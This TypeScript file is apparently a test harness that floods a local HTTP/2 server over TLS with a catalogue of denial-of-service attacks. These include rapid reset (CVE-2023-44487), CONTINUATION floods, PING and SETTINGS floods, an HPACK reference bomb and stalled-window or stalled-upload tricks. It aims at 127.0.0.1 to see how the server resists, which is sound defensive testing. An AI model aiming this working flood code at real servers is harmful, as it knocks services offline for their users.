/**
 * Attacks over HTTP/2 and TLS, frame by frame, as a program of its own: `bun flood.ts KIND PORT CONNECTIONS SECONDS`. Each
 * connection sends as much as is taken of it; one that is ended begins again. Says what became of it as a line of JSON.
 */
import { connect, type TLSSocket } from "node:tls";
import {
  CONTINUATION,
  FRAME_HEADER,
  GOAWAY,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  newFrameHeader,
  PING,
  PREFACE,
  readFrameHeader,
  readWord,
} from "../../src/protocols/http2/frames.ts";
import { block, data, type Fields, frame, headers, rst, settings, windowUpdate } from "../wire/http2/raw.ts";

const LARGEST_INCREMENT = 0x7fff0000;
const FRAMES_AT_ONCE = 100;
/** Streams that are opened by who then does nothing. */
const STREAMS = 100;
const HOST = "web.example.test";

export interface FloodReport {
  readonly connections: number;
  readonly frames: number;
  readonly mb: number;
  /** How connections were ended: codes of GOAWAY, and "lost" without one. */
  readonly ends: Readonly<Record<string, number>>;
}

interface Attack {
  /** Sent once, behind the preface. */
  readonly first: (get: Fields, post: Fields) => Uint8Array[];
  /** Sent again and again; null: it holds what it has. */
  readonly next: ((index: number, get: Fields) => Uint8Array) | null;
  /** It takes no bytes of the balancer either. */
  readonly readsNothing?: boolean;
}

const large = (stream: number) => 2 * stream + 1;
const streams = (make: (stream: number) => Uint8Array) => Array.from({ length: STREAMS }, (_, nth) => make(large(nth)));

const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset (CVE-2023-44487)": {
    first: () => [settings()],
    next: (index, get) => Buffer.concat([headers(large(index), get), rst(large(index))]),
  },
  "CONTINUATION without an end (CVE-2024-27316)": {
    first: (get) => [settings(), headers(1, get, true, 0)],
    next: () => frame(CONTINUATION, 0, 1, block([["x", "y".repeat(1000)]])),
  },
  "CONTINUATION of nothing": {
    first: (get) => [settings(), headers(1, get, true, 0)],
    next: () => frame(CONTINUATION, 0, 1),
  },
  "PING (CVE-2019-9512)": { first: () => [settings()], next: () => frame(PING, 0, 0, new Uint8Array(8)) },
  "SETTINGS (CVE-2019-9515)": { first: () => [settings()], next: () => settings(INITIAL_WINDOW_SIZE, 70_000) },
  "fields that are referred to 10,000 times": {
    first: () => [settings()],
    next: (index, get) => frame(HEADERS, 0x5, large(index), bomb(get)),
  },
  "100 large answers, a window of 0": {
    first: (get) => [settings(INITIAL_WINDOW_SIZE, 0), ...streams((stream) => headers(stream, get))],
    next: null,
  },
  "100 large answers, nothing read": {
    first: (get) => [
      settings(INITIAL_WINDOW_SIZE, LARGEST_INCREMENT),
      windowUpdate(0, LARGEST_INCREMENT),
      ...streams((stream) => headers(stream, get)),
    ],
    next: null,
    readsNothing: true,
  },
  "100 uploads that stop": {
    first: (_, post) => [
      settings(),
      ...streams((stream) => Buffer.concat([headers(stream, post, false), data(stream, "x")])),
    ],
    next: null,
  },
};

/** The names of all, in their order. */
export const FLOODS = Object.keys(ATTACKS);

/** A field of 4000 bytes, and 10,000 references to it of one byte each. */
function bomb(get: Fields): Uint8Array {
  const length = 4000;
  const field = Buffer.concat([
    Uint8Array.of(0x40, 1, 0x78, 0x7f, (length - 0x7f) | 0x80, (length - 0x7f) >> 7),
    Buffer.alloc(length, "y"),
  ]);
  return Buffer.concat([block(get), field, Buffer.alloc(10_000, 0xbe)]);
}

class Flood {
  readonly #attack: Attack;
  readonly #port: number;
  readonly #get: Fields;
  readonly #post: Fields;
  readonly #report = { connections: 0, frames: 0, mb: 0, ends: {} as Record<string, number> };
  #over = false;

  constructor(kind: string, port: number) {
    this.#attack = ATTACKS[kind]!;
    this.#port = port;
    const path = kind.includes("large answers") ? "/bytes?size=1000000" : "/small";
    const request = (method: string, target: string): Fields => [
      [":method", method],
      [":scheme", "https"],
      [":path", target],
      [":authority", `${HOST}:${port}`],
    ];
    this.#get = request("GET", path);
    this.#post = [...request("POST", "/size"), ["content-length", "1000000"]];
  }

  async run(connections: number, seconds: number): Promise<FloodReport> {
    const all = Array.from({ length: connections }, () => this.#keepOn());
    await Bun.sleep(seconds * 1000);
    this.#over = true;
    await Promise.race([Promise.all(all), Bun.sleep(2000)]);
    return { ...this.#report, mb: Math.round(this.#report.mb / 1e6) };
  }

  async #keepOn(): Promise<void> {
    while (!this.#over) {
      await this.#one();
      // Who is sent away comes back at once, and not in a loop that does nothing else.
      await Bun.sleep(10);
    }
  }

  #one(): Promise<void> {
    const { promise, resolve } = Promise.withResolvers<void>();
    this.#report.connections++;
    const options = { host: "127.0.0.1", port: this.#port, servername: HOST, ALPNProtocols: ["h2"] };
    const socket = connect({ ...options, rejectUnauthorized: false });
    let end = "lost";
    let come: Buffer = Buffer.alloc(0);
    socket.on("secureConnect", () => this.#send(socket));
    if (this.#attack.readsNothing) socket.pause();
    else {
      socket.on("data", (bytes: Buffer) => {
        come = Buffer.concat([come, bytes]);
        const read = readFrames(come);
        come = read.rest;
        if (read.goaway >= 0) end = `GOAWAY ${read.goaway}`;
      });
    }
    const over = setInterval(() => {
      if (!this.#over) return;
      end = "still there";
      socket.destroy();
    }, 100);
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(over);
      this.#report.ends[end] = (this.#report.ends[end] ?? 0) + 1;
      resolve();
    });
    return promise;
  }

  async #send(socket: TLSSocket): Promise<void> {
    const { first, next } = this.#attack;
    const write = (bytes: Uint8Array) => {
      this.#report.mb += bytes.length;
      if (socket.write(bytes)) return Bun.sleep(0);
      return new Promise<void>((resolve) => {
        const goOn = () => {
          socket.off("drain", goOn).off("close", goOn);
          resolve();
        };
        socket.on("drain", goOn).on("close", goOn);
      });
    };
    const pieces = first(this.#get, this.#post);
    this.#report.frames += pieces.length;
    await write(Buffer.concat([PREFACE, ...pieces]));
    for (let index = 0; next !== null && !this.#over && !socket.destroyed; ) {
      const many = Array.from({ length: FRAMES_AT_ONCE }, () => next(index++, this.#get));
      this.#report.frames += many.length;
      await write(Buffer.concat(many));
    }
  }
}

/** @returns the code of a GOAWAY, or -1; and the bytes that are no whole frame yet. */
function readFrames(bytes: Buffer): { goaway: number; rest: Buffer } {
  const header = newFrameHeader();
  let goaway = -1;
  let at = 0;
  while (readFrameHeader(bytes, at, bytes.length, 0xffffff, header) > 0) {
    const end = at + FRAME_HEADER + header.length;
    if (end > bytes.length) break;
    if (header.type === GOAWAY) goaway = readWord(bytes, at + FRAME_HEADER + 4);
    at = end;
  }
  return { goaway, rest: bytes.subarray(at) };
}

if (import.meta.main) {
  const [kind = "", port, connections, seconds] = process.argv.slice(2);
  console.log(JSON.stringify(await new Flood(kind, Number(port)).run(Number(connections), Number(seconds))));
  process.exit(0);
}
